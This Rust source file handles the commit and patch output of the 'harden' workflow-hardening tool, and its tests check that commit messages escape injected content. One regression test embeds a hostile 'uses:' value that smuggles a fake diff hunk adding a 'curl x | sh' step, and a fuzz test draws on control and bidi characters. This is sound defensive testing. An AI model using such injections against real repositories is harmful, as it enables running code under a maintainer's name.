//! `--commit` (one commit per transform) and `--patch-dir` (one patch per transform, in the
//! form `git am` applies): sign-off, hooks, subject template.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use harden_transforms::{FileChange, Finding, Severity};

use crate::cli::Args;
use crate::config::Config;
use crate::mailpatch::{self, Ident};
use crate::report::TransformReport;

/// Set by harden for the git hooks of its own `--commit`: the transforms whose commits are
/// still to come, comma-separated. A harden run inside such a hook (the pre-commit hook of a
/// repository that uses harden) leaves them out, instead of refusing the first commit because
/// the next transform has not been applied yet.
pub(crate) const PENDING_ENV: &str = "HARDEN_PENDING_TRANSFORMS";

/// The selected transforms without those [`PENDING_ENV`] names.
pub(crate) fn without_pending(selected: Vec<&'static str>) -> Vec<&'static str> {
    let Some(pending) = std::env::var_os(PENDING_ENV) else {
        return selected;
    };
    let pending = pending.to_string_lossy().into_owned();
    selected
        .into_iter()
        .filter(|t| !pending.split(',').any(|p| p.trim() == *t))
        .collect()
}

/// The subject line when neither `--subject` nor `.github/harden.yml` gives one.
pub(crate) const DEFAULT_SUBJECT: &str = "harden: {transform}";

/// How harden's commits and patches are made: flags first, then `.github/harden.yml`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct GitOptions {
    /// Add a `Signed-off-by:` trailer (`--signoff`, `commit.signoff`).
    pub signoff: bool,
    /// Run the repository's hooks (not `--no-verify`).
    pub verify: bool,
    /// Subject template (`--subject`, `commit.subject`).
    pub subject: String,
    /// Where `--patch-dir` writes the patches.
    pub patch_dir: Option<PathBuf>,
}

impl GitOptions {
    /// The options for one repository.
    pub(crate) fn new(args: &Args, config: &Config) -> Self {
        GitOptions {
            signoff: args.signoff || config.signoff == Some(true),
            verify: !args.no_verify,
            subject: args
                .subject
                .clone()
                .or_else(|| config.subject.clone())
                .unwrap_or_else(|| DEFAULT_SUBJECT.to_owned()),
            patch_dir: args.patch_dir.clone(),
        }
    }
}

/// A short imperative summary of a transform (its registry entry), for `{summary}` in
/// subject lines.
fn short_summary(t: &TransformReport) -> &'static str {
    harden_transforms::registry::find(t.name).map_or(t.summary, |info| info.summary)
}

/// Fills a subject template: `{transform}`, `{summary}`, and `{{`/`}}` for braces.
fn render_subject(template: &str, transform: &str, summary: &str) -> Result<String, String> {
    let mut out = String::new();
    let mut rest = template;
    while let Some(i) = rest.find(['{', '}']) {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        if let Some(after) = tail.strip_prefix("{{") {
            out.push('{');
            rest = after;
        } else if let Some(after) = tail.strip_prefix("}}") {
            out.push('}');
            rest = after;
        } else if tail.starts_with('}') {
            return Err("a `}` without `{`: write `}}` for a brace".to_owned());
        } else {
            let end = tail
                .find('}')
                .ok_or("a `{` without `}`: write `{{` for a brace")?;
            match &tail[1..end] {
                "transform" => out.push_str(transform),
                "summary" => out.push_str(summary),
                other => {
                    return Err(format!(
                        "unknown placeholder `{{{other}}}`; valid ones: {{transform}}, {{summary}}"
                    ))
                }
            }
            rest = &tail[end + 1..];
        }
    }
    out.push_str(rest);
    if out.contains(['\n', '\r']) {
        return Err("a subject is one line".to_owned());
    }
    if out.trim().is_empty() {
        return Err("the subject is empty".to_owned());
    }
    Ok(out.trim().to_owned())
}

/// Checks a subject template (unknown placeholders, unbalanced braces, several lines).
pub(crate) fn check_subject(template: &str) -> Result<(), String> {
    render_subject(template, "transform", "summary").map(|_| ())
}

/// `path` relative to the repository root, with `/` separators, for patches and git.
pub(crate) fn relative_to_root(path: &Path, root: &Path) -> String {
    let rel = path.strip_prefix(root).unwrap_or(path);
    let text = rel.display().to_string().replace('\\', "/");
    text.trim_start_matches("./").to_owned()
}

/// A `git apply`-able patch of one transform's changes.
pub(crate) fn patch_text(changes: &[FileChange], root: &Path) -> String {
    let mut out = String::new();
    for c in changes {
        let rel = relative_to_root(&c.path, root);
        // Quoted as git quotes unusual names: a line break in a name cannot start a line.
        let (a, b) = (
            crate::escape::git_path("a/", &rel),
            crate::escape::git_path("b/", &rel),
        );
        out.push_str(&format!("diff --git {a} {b}\n"));
        let old = if c.before.is_some() {
            a
        } else {
            out.push_str("new file mode 100644\n");
            "/dev/null".to_owned()
        };
        let diff = crate::report::line_diff(c.before.as_deref().unwrap_or(""), &c.after);
        out.push_str(
            &diff
                .unified_diff()
                .context_radius(3)
                .header(&old, &b)
                .to_string(),
        );
    }
    out
}

/// Writes `NN-transform.patch` files into `dir`, in `git format-patch` form (author and date
/// from git's identity, as `git commit` would record them); returns the files written.
pub(crate) fn write_patches(
    dir: &Path,
    prefix: &str,
    transforms: &[TransformReport],
    root: &Path,
    options: &GitOptions,
) -> Result<Vec<PathBuf>, String> {
    let author = identity(root, "GIT_AUTHOR_IDENT").unwrap_or_else(|_| fallback_identity());
    let signoff = if options.signoff {
        Some(signoff_line(root)?)
    } else {
        None
    };
    std::fs::create_dir_all(dir).map_err(|e| format!("could not create the folder: {e}"))?;
    let total = transforms.iter().filter(|t| !t.changes.is_empty()).count();
    let mut written = Vec::new();
    let mut n = 0;
    for (i, t) in transforms.iter().enumerate() {
        if t.changes.is_empty() {
            continue;
        }
        n += 1;
        let mut message = commit_message(t, root, &options.subject);
        if let Some(line) = &signoff {
            message = add_signoff(&message, line);
        }
        let part = mailpatch::Part {
            n,
            total,
            message: &message,
            changes: &t.changes,
        };
        let path = dir.join(format!("{prefix}{:02}-{}.patch", i + 1, t.name));
        crate::fsutil::write_atomic(&path, &mailpatch::patch_file(&part, &author, root))
            .map_err(|e| format!("could not write {}: {e}", path.display()))?;
        written.push(path);
    }
    crate::fsutil::sync_folders(written.iter().map(|p| p.as_path()));
    Ok(written)
}

/// `Name <email> seconds zone` as git would use it (`GIT_AUTHOR_IDENT`, `GIT_COMMITTER_IDENT`):
/// environment, then the repository's and the user's configuration.
fn identity(root: &Path, which: &str) -> Result<Ident, String> {
    let text = git(root, &["var", which])?;
    Ident::parse(&text).ok_or_else(|| format!("git var {which} printed `{}`", text.trim()))
}

/// The author of patches when git knows no identity: the person who applies them with
/// `git am` can still change it.
fn fallback_identity() -> Ident {
    let seconds = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs() as i64);
    Ident {
        name_email: "harden <harden@localhost>".to_owned(),
        seconds,
        zone: "+0000".to_owned(),
    }
}

/// `Signed-off-by: Name <email>` with the committer git would record.
fn signoff_line(root: &Path) -> Result<String, String> {
    let who = identity(root, "GIT_COMMITTER_IDENT").map_err(|e| {
        format!("--signoff needs git's committer identity ({e}); set user.name and user.email")
    })?;
    Ok(format!("Signed-off-by: {}", who.name_email))
}

/// `message` with the sign-off trailer, placed as `git commit -s` places it: not again when it
/// is already the last line; on the next line when the message ends with trailers; else after
/// a blank line.
fn add_signoff(message: &str, line: &str) -> String {
    let body = message.trim_end_matches('\n');
    let last_paragraph = body.rsplit("\n\n").next().unwrap_or("");
    if body.lines().last() == Some(line) {
        return format!("{body}\n");
    }
    let is_trailer = |l: &str| {
        l.split_once(": ").is_some_and(|(key, _)| {
            !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
    };
    let ends_with_trailers = body.contains("\n\n") && last_paragraph.lines().all(is_trailer);
    let separator = if ends_with_trailers { "\n" } else { "\n\n" };
    format!("{body}{separator}{line}\n")
}

fn git(root: &Path, args: &[&str]) -> Result<String, String> {
    let out = Command::new("git")
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .map_err(|e| format!("cannot run git: {e}"))?;
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    } else {
        Err(format!(
            "git {} failed: {}",
            args.first().copied().unwrap_or_default(),
            String::from_utf8_lossy(&out.stderr).trim()
        ))
    }
}

/// Refuses when any of `paths` has uncommitted changes, or `root` is not a git work tree.
pub(crate) fn check_clean(root: &Path, paths: &[String]) -> Result<(), String> {
    git(root, &["rev-parse", "--is-inside-work-tree"]).map_err(|_| {
        format!(
            "--commit needs a git work tree; {} is not one",
            root.display()
        )
    })?;
    if paths.is_empty() {
        return Ok(());
    }
    let mut args = vec!["status", "--porcelain", "--"];
    args.extend(paths.iter().map(String::as_str));
    let dirty = git(root, &args)?;
    if dirty.trim().is_empty() {
        Ok(())
    } else {
        Err(format!(
            "--commit refuses to run: these files have uncommitted changes:\n{}commit or stash them first",
            dirty
        ))
    }
}

/// The commit message of one transform: the subject from `subject_template`, then what it did,
/// file by file, and what it left. Every value from outside (the template, paths, job ids and
/// `uses:` values in notes and findings) is escaped onto one line, and the whole message is
/// made safe for `git am` (no line can start a patch): see [`crate::escape::commit_message`].
pub(crate) fn commit_message(t: &TransformReport, root: &Path, subject_template: &str) -> String {
    use crate::escape::commit_line;
    let subject = render_subject(subject_template, t.name, short_summary(t))
        .unwrap_or_else(|_| format!("harden: {}", t.name));
    let mut msg = format!("{}\n\n{}.\n", commit_line(&subject), capitalise(t.summary));
    for c in &t.changes {
        let rel = commit_line(&relative_to_root(&c.path, root));
        if c.before.is_none() {
            msg.push_str(&format!("\nCreated {rel}.\n"));
        } else {
            msg.push_str(&format!("\n{rel}:\n"));
        }
        for n in &c.notes {
            msg.push_str(&format!("- line {}: {}\n", n.line, commit_line(&n.message)));
        }
    }
    let left: Vec<_> = t
        .findings
        .iter()
        .filter(|f| f.severity >= Severity::Warning)
        .collect();
    if !left.is_empty() {
        msg.push_str("\nLeft for a person to decide:\n");
        for f in left {
            let at = f.line.map_or(String::new(), |l| format!(":{l}"));
            msg.push_str(&format!(
                "- {}{at}: {}\n",
                commit_line(&relative_to_root(&f.path, root)),
                commit_line(&f.message)
            ));
        }
    }
    msg.push_str("\nGenerated by harden.\n");
    crate::escape::commit_message(&msg)
}

fn capitalise(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(first) => first.to_uppercase().chain(c).collect(),
        None => String::new(),
    }
}

/// An error about `path`, for the report.
fn problem(path: &Path, message: String) -> Finding {
    Finding {
        transform: "",
        path: path.to_path_buf(),
        line: None,
        column: None,
        severity: Severity::Error,
        message,
    }
}

/// `--commit`: writes and commits each transform's changes in order, after checking that none
/// of the files to touch has uncommitted changes. The repository's hooks run unless
/// `--no-verify`; when a commit fails (a hook refuses it), its files are put back as they were
/// before it, the commits before it stay, and nothing after it is done.
pub(crate) fn commit_each(
    root: &Path,
    reports: &[TransformReport],
    options: &GitOptions,
    written: &mut Vec<PathBuf>,
    problems: &mut Vec<Finding>,
) {
    let mut touched: Vec<String> = reports
        .iter()
        .flat_map(|t| t.changes.iter().map(|c| relative_to_root(&c.path, root)))
        .collect();
    touched.sort();
    touched.dedup();
    let _journal = match RunJournal::begin(root, &touched) {
        Ok(journal) => journal,
        Err(msg) => {
            problems.push(problem(root, msg));
            return;
        }
    };
    if let Err(msg) = check_clean(root, &touched) {
        problems.push(problem(root, msg));
        return;
    }
    let with_changes: Vec<&TransformReport> =
        reports.iter().filter(|t| !t.changes.is_empty()).collect();
    let mut done: Vec<&str> = Vec::new();
    for (i, t) in with_changes.iter().enumerate() {
        let pending: Vec<&str> = with_changes[i + 1..].iter().map(|t| t.name).collect();
        let paths: Vec<String> = t
            .changes
            .iter()
            .map(|c| relative_to_root(&c.path, root))
            .collect();
        let mut wrote = Vec::new();
        let outcome = write_changes(root, &t.changes, &mut wrote).and_then(|()| {
            let message = commit_message(t, root, &options.subject);
            commit(root, &paths, &message, options, &pending)
        });
        if let Err(why) = outcome {
            // Only what this run wrote is undone, and only where harden's text still stands.
            let staged = wrote.len() == t.changes.len();
            let restored = restore(root, &wrote, staged.then_some(paths.as_slice()));
            let message = refused_message(t.name, &why, &restored, &done, &pending);
            problems.push(problem(root, message));
            return;
        }
        for c in &t.changes {
            if !written.contains(&c.path) {
                written.push(c.path.clone());
            }
        }
        done.push(t.name);
    }
}

/// The note a `--commit` run keeps in the git folder while it writes and commits
/// (`harden-commit.json`: its process id and the files it may touch). It is removed when the
/// run ends; one killed meanwhile (SIGKILL, or a signal during a hook) leaves it, and the next
/// `--commit` run finds it: while that process lives, it refuses to run beside it (the two would
/// put texts back over each other's commits); once it is gone, it reports the files left staged
/// or edited (exit 2) until they are committed or discarded, then removes the note.
struct RunJournal(Option<PathBuf>);

/// The journal's name in the git folder.
const JOURNAL: &str = "harden-commit.json";

#[derive(serde::Serialize, serde::Deserialize)]
struct JournalText {
    pid: u32,
    paths: Vec<String>,
}

impl RunJournal {
    /// Checks for another run's note and writes this run's; a repository whose git folder
    /// cannot be found gets no note (`check_clean` then says it is no work tree).
    fn begin(root: &Path, paths: &[String]) -> Result<RunJournal, String> {
        let Ok(git_dir) = git(root, &["rev-parse", "--absolute-git-dir"]) else {
            return Ok(RunJournal(None));
        };
        let git_dir = PathBuf::from(git_dir.trim_end_matches(['\n', '\r']));
        let path = git_dir.join(JOURNAL);
        let note = JournalText {
            pid: std::process::id(),
            paths: paths.to_vec(),
        };
        let text = serde_json::to_string(&note).unwrap_or_default();
        for _ in 0..2 {
            let created = std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .open(&path);
            match created {
                Ok(mut file) => {
                    use std::io::Write;
                    file.write_all(text.as_bytes())
                        .and_then(|()| file.sync_all())
                        .map_err(|e| format!("could not write {}: {e}", path.display()))?;
                    return Ok(RunJournal(Some(path)));
                }
                Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
                    Self::check_earlier(root, &git_dir, &path)?;
                }
                Err(e) => return Err(format!("could not write {}: {e}", path.display())),
            }
        }
        Err(format!(
            "{} keeps coming back; is another harden running?",
            path.display()
        ))
    }

    /// Another run's note: refused while that run lives, reported while its files are not
    /// clean, removed once they are.
    fn check_earlier(root: &Path, git_dir: &Path, path: &Path) -> Result<(), String> {
        let limit = harden_github::safe_read::MAX_SMALL_FILE;
        let text = harden_github::safe_read::read_text(git_dir, path, limit)
            .map_err(|e| format!("{}: {e}; remove it if no harden runs", path.display()))?;
        let earlier: JournalText = serde_json::from_str(&text)
            .map_err(|e| format!("{}: {e}; remove it if no harden runs", path.display()))?;
        if process_lives(earlier.pid) {
            return Err(format!(
                "another `harden --commit` (process {}) is committing in this repository; run \
                 again once it has finished (if no harden runs, remove {})",
                earlier.pid,
                path.display()
            ));
        }
        let mut status = vec!["status", "--porcelain", "--"];
        status.extend(earlier.paths.iter().map(String::as_str));
        let left = if earlier.paths.is_empty() {
            String::new()
        } else {
            git(root, &status)?
        };
        if !left.trim().is_empty() {
            return Err(format!(
                "an earlier `harden --commit` (process {}) was interrupted and left these files \
                 edited or staged:\n{left}review them (`git diff HEAD -- <file>`), then commit \
                 them or discard them (`git restore --staged --worktree -- <file>`) and run \
                 again; harden removes its note ({}) once they are clean",
                earlier.pid,
                path.display()
            ));
        }
        std::fs::remove_file(path)
            .or_else(|e| match e.kind() {
                std::io::ErrorKind::NotFound => Ok(()),
                _ => Err(e),
            })
            .map_err(|e| format!("could not remove {}: {e}", path.display()))
    }
}

/// A plain run's one-line warning for the note an interrupted `--commit` run left in the
/// repository's `.git` folder (a `--commit` run checks the note itself, see [`RunJournal`]).
/// Only the note's presence is looked at (a worktree, whose `.git` is a file, is not).
pub(crate) fn leftover_note(root: &Path) -> Option<Finding> {
    let git_dir = root.join(".git");
    let path = git_dir.join(JOURNAL);
    if !git_dir.is_dir() || std::fs::symlink_metadata(&path).is_err() {
        return None;
    }
    let limit = harden_github::safe_read::MAX_SMALL_FILE;
    let note = harden_github::safe_read::read_text(&git_dir, &path, limit)
        .ok()
        .and_then(|text| serde_json::from_str::<JournalText>(&text).ok());
    let message = match note {
        Some(note) if process_lives(note.pid) => format!(
            "a `harden --commit` (process {}) is committing in this repository: its files may \
             change under this run",
            note.pid
        ),
        _ => "an earlier `harden --commit` was interrupted and may have left files edited or \
              staged: run `harden --commit` again to have them listed (or check `git status`)"
            .to_owned(),
    };
    Some(Finding {
        transform: "",
        path,
        line: None,
        column: None,
        severity: Severity::Warning,
        message,
    })
}

impl Drop for RunJournal {
    fn drop(&mut self) {
        if let Some(path) = &self.0 {
            let _ = std::fs::remove_file(path);
        }
    }
}

/// Whether process `pid` is alive (Linux: its `/proc` entry); elsewhere, assumed gone.
fn process_lives(pid: u32) -> bool {
    pid != std::process::id() && Path::new(&format!("/proc/{pid}")).exists()
}

/// Writes every change through the checked writer (the file must still hold what harden read,
/// inside the repository); stops at the first failure. `wrote` gets each change written.
fn write_changes<'c>(
    root: &Path,
    changes: &'c [FileChange],
    wrote: &mut Vec<&'c FileChange>,
) -> Result<(), String> {
    // The root is resolved once for the batch, not once per file.
    let root = std::fs::canonicalize(root)
        .map_err(|e| format!("could not resolve {}: {e}", root.display()))?;
    for c in changes {
        let before = c.before.as_deref().map(str::as_bytes);
        crate::fsutil::write_checked_in(&root, &c.path, before, &c.after)
            .map_err(|e| format!("could not write {}: {e}", c.path.display()))?;
        wrote.push(c);
    }
    crate::fsutil::sync_folders(changes.iter().map(|c| c.path.as_path()));
    Ok(())
}

/// The error of a transform whose commit did not happen: why, what was put back, what stays.
fn refused_message(
    name: &str,
    why: &str,
    restored: &Result<Vec<String>, String>,
    done: &[&str],
    pending: &[&str],
) -> String {
    let mut msg = format!("harden stopped: the `{name}` commit was not made: {why}.");
    match restored {
        Ok(files) => msg.push_str(&format!(
            " Its files are back as they were before it: {}.",
            files.join(", ")
        )),
        Err(e) => msg.push_str(&format!(" Putting its files back failed: {e}.")),
    }
    if done.is_empty() {
        msg.push_str(" Nothing was committed.");
    } else {
        msg.push_str(&format!(" Committed before it: {}.", done.join(", ")));
    }
    if !pending.is_empty() {
        msg.push_str(&format!(" Not committed: {}.", pending.join(", ")));
    }
    msg
}

/// Commits `paths` (already written) with `message`, running the repository's hooks unless
/// `--no-verify`. On failure, git's and the hooks' output is shown on stderr and the error
/// says so.
fn commit(
    root: &Path,
    paths: &[String],
    message: &str,
    options: &GitOptions,
    pending: &[&str],
) -> Result<(), String> {
    let mut add = vec!["add", "--"];
    add.extend(paths.iter().map(String::as_str));
    git(root, &add)?;
    let mut cmd = Command::new("git");
    cmd.arg("-C")
        .arg(root)
        .args(["commit", "--quiet", "-F", "-"]);
    if !options.verify {
        cmd.arg("--no-verify");
    }
    if options.signoff {
        cmd.arg("--signoff");
    }
    cmd.arg("--").args(paths);
    cmd.env(PENDING_ENV, pending.join(","))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().map_err(|e| format!("cannot run git: {e}"))?;
    let stdin = child.stdin.take();
    // git reads the whole message before it runs any hook; a thread keeps a long message
    // from filling the pipe while git's output is read.
    let out = std::thread::scope(|s| {
        s.spawn(|| {
            if let Some(mut stdin) = stdin {
                use std::io::Write;
                let _ = stdin.write_all(message.as_bytes());
            }
        });
        child.wait_with_output()
    })
    .map_err(|e| format!("cannot run git: {e}"))?;
    if out.status.success() {
        return Ok(());
    }
    show_output(&out.stdout, &out.stderr);
    Err(if options.verify {
        "`git commit` failed (its output and that of the repository's hooks is above): fix what \
         it reports and run harden again, or skip the hooks with --no-verify"
            .to_owned()
    } else {
        "`git commit` failed (its output is above)".to_owned()
    })
}

/// git's and the hooks' output, on stderr, as they wrote it.
fn show_output(stdout: &[u8], stderr: &[u8]) {
    use std::io::Write;
    let err = std::io::stderr();
    let mut err = err.lock();
    let _ = writeln!(
        err,
        "--- output of `git commit` and the repository's hooks:"
    );
    let _ = err.write_all(stdout);
    let _ = err.write_all(stderr);
    let _ = writeln!(err, "--- end of that output");
}

/// Puts the files of a commit that failed back as they were before it: the index entries
/// of `staged` (the paths `git add` took) from `HEAD`, and the texts of the changes this run
/// wrote, each only while the file still holds harden's text (an edit saved meanwhile, or the
/// text another run committed, is kept and named). Returns the files restored.
fn restore(
    root: &Path,
    wrote: &[&FileChange],
    staged: Option<&[String]>,
) -> Result<Vec<String>, String> {
    if let Some(paths) = staged {
        let mut reset = vec!["reset", "--quiet", "--"];
        reset.extend(paths.iter().map(String::as_str));
        // An unborn branch has no HEAD to reset to: removing the entries does the same.
        if git(root, &reset).is_err() {
            let mut rm = vec!["rm", "--cached", "--quiet", "--ignore-unmatch", "--"];
            rm.extend(paths.iter().map(String::as_str));
            git(root, &rm)?;
        }
    }
    let resolved = std::fs::canonicalize(root)
        .map_err(|e| format!("could not resolve {}: {e}", root.display()))?;
    let mut restored = Vec::new();
    let mut kept = Vec::new();
    for c in wrote {
        let rel = relative_to_root(&c.path, root);
        match crate::fsutil::restore_checked_in(&resolved, &c.path, &c.after, c.before.as_deref()) {
            Ok(()) => restored.push(rel),
            Err(crate::fsutil::Refusal::Changed) => kept.push(rel),
            Err(e) => return Err(format!("could not put {} back: {e}", c.path.display())),
        }
    }
    if kept.is_empty() {
        Ok(restored)
    } else {
        Err(format!(
            "{} changed after harden wrote {}, so the text there now is kept, not harden's \
             original: {}; put back: {}",
            if kept.len() == 1 { "a file" } else { "files" },
            if kept.len() == 1 { "it" } else { "them" },
            kept.join(", "),
            if restored.is_empty() {
                "nothing".to_owned()
            } else {
                restored.join(", ")
            }
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn subject_templates() {
        let r = |t: &str| render_subject(t, "pin-actions", "pin actions to commit SHAs");
        assert_eq!(r(DEFAULT_SUBJECT).as_deref(), Ok("harden: pin-actions"));
        assert_eq!(
            r("ci: {summary}").as_deref(),
            Ok("ci: pin actions to commit SHAs")
        );
        assert_eq!(r("{{x}} {transform}").as_deref(), Ok("{x} pin-actions"));
        assert!(r("ci: {sumary}").is_err_and(|e| e.contains("unknown placeholder `{sumary}`")));
        assert!(r("ci: {summary").is_err());
        assert!(r("ci: }").is_err());
        assert!(r("a\nb").is_err());
        assert!(r("  ").is_err());
    }

    /// Issue 28: the transitive-pin warning quoted a third-party composite `uses:` value with
    /// line breaks into the pin-actions message, and `git am` applied the hunk it carried.
    #[test]
    fn quoted_values_never_start_a_patch_in_a_commit_message() {
        let hostile = "uses `evil/x@v1\ndiff --git a/r.yml b/r.yml\n--- a/r.yml\n+++ b/r.yml\n@@ -1 +1,2 @@\n on: push\n+      - run: curl x | sh\n` inside `o/a@v2`";
        let t = TransformReport {
            name: "pin-actions",
            summary: "pin actions",
            changes: vec![FileChange {
                path: PathBuf::from("r/.github/workflows/ci\n--- x.yml"),
                kind: harden_transforms::FileKind::Workflow,
                before: Some("a\n".to_owned()),
                after: "b\n".to_owned(),
                notes: vec![harden_transforms::ChangeNote {
                    line: 3,
                    message: hostile.to_owned(),
                }],
            }],
            findings: vec![Finding {
                transform: "pin-actions",
                path: PathBuf::from("r/a.yml"),
                line: Some(2),
                column: None,
                severity: Severity::Warning,
                message: hostile.to_owned(),
            }],
        };
        let message = commit_message(&t, Path::new("r"), "ci\u{1b}[2J: {transform}");
        for line in message.lines() {
            for start in ["diff", "---", "+++", "@@", "From "] {
                assert!(!line.starts_with(start), "{line:?} in\n{message}");
            }
            assert!(
                !line.starts_with(" on:") && !line.starts_with('+'),
                "{line:?}"
            );
        }
        assert!(!message.contains(['\u{1b}', '\0']), "{message:?}");
        assert!(
            message.starts_with("ci\\u{1b}[2J: pin-actions\n"),
            "{message}"
        );
        let patch = patch_text(&t.changes, Path::new("r"));
        assert!(
            patch.starts_with("diff --git \"a/.github/workflows/ci\\n--- x.yml\" "),
            "{patch}"
        );
    }

    #[test]
    fn signoff_is_placed_as_git_commit_s_places_it() {
        let line = "Signed-off-by: A <a@b>";
        assert_eq!(
            add_signoff("s\n\nbody.\n", line),
            "s\n\nbody.\n\nSigned-off-by: A <a@b>\n"
        );
        assert_eq!(
            add_signoff("s\n\nbody.\n\nCo-authored-by: B <b@c>\n", line),
            "s\n\nbody.\n\nCo-authored-by: B <b@c>\nSigned-off-by: A <a@b>\n"
        );
        assert_eq!(
            add_signoff("s\n\nSigned-off-by: A <a@b>\n", line),
            "s\n\nSigned-off-by: A <a@b>\n"
        );
    }

    /// A deterministic stand-in for a fuzz target of the message builder (the binary is out
    /// of the fuzz crate's reach): 5,000 reports whose subject template, paths, notes and
    /// findings are drawn from a hostile alphabet. No line of the message, signed off or not,
    /// starts a patch, an mbox message or an in-body header unless quoted with `> `, and none
    /// holds a control, bidi or zero-width character.
    #[test]
    fn built_messages_never_start_a_patch_for_hostile_values() {
        const ALPHABET: &[&str] = &[
            "a",
            " ",
            "\t",
            "\n",
            "\r\n",
            "\0",
            "\u{1b}[2J",
            "\u{7f}",
            "\u{85}",
            "\u{9b}",
            "\u{2028}",
            "\u{202e}",
            "\u{200b}",
            "\u{feff}",
            "diff --git a/x b/x",
            "---",
            "+++ b/x",
            "@@ -1 +1 @@",
            "From ",
            "From: x",
            "Subject: y",
            "-- >8 --",
            "Index: ",
            "index 0..1",
            "\\ No newline",
            "GIT binary patch",
            "{transform}",
            "{summary}",
            "é",
        ];
        let mut seed: u64 = 0x5851_f42d_4c95_7f2d;
        let mut next = move |n: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % n as u64) as usize
        };
        let mut hostile = || -> String {
            (0..=next(8))
                .map(|_| ALPHABET[next(ALPHABET.len())])
                .collect()
        };
        let severities = [Severity::Note, Severity::Warning, Severity::Error];
        for _ in 0..5_000 {
            let change = FileChange {
                path: PathBuf::from(format!("r/{}", hostile())),
                kind: harden_transforms::FileKind::Workflow,
                before: Some("a\n".to_owned()),
                after: "b\n".to_owned(),
                notes: vec![harden_transforms::ChangeNote {
                    line: 1,
                    message: hostile(),
                }],
            };
            let finding_message = hostile();
            let severity = severities[finding_message.len() % 3];
            let t = TransformReport {
                name: "pin-actions",
                summary: "pin actions",
                changes: vec![change],
                findings: vec![Finding {
                    transform: "pin-actions",
                    path: PathBuf::from(format!("r/{}", hostile())),
                    line: Some(2),
                    column: None,
                    severity,
                    message: finding_message,
                }],
            };
            let template = format!("{}{{transform}}", hostile());
            let message = commit_message(&t, Path::new("r"), &template);
            let signed = add_signoff(&message, "Signed-off-by: A <a@example.com>");
            for text in [&message, &signed] {
                for line in text.lines() {
                    let quoted = line.starts_with("> ");
                    assert!(
                        quoted || !crate::escape::starts_patch(line),
                        "{line:?} in\n{text}"
                    );
                    assert!(
                        !line.chars().any(crate::escape::needs_escape),
                        "{line:?} in\n{text}"
                    );
                }
            }
        }
    }
}
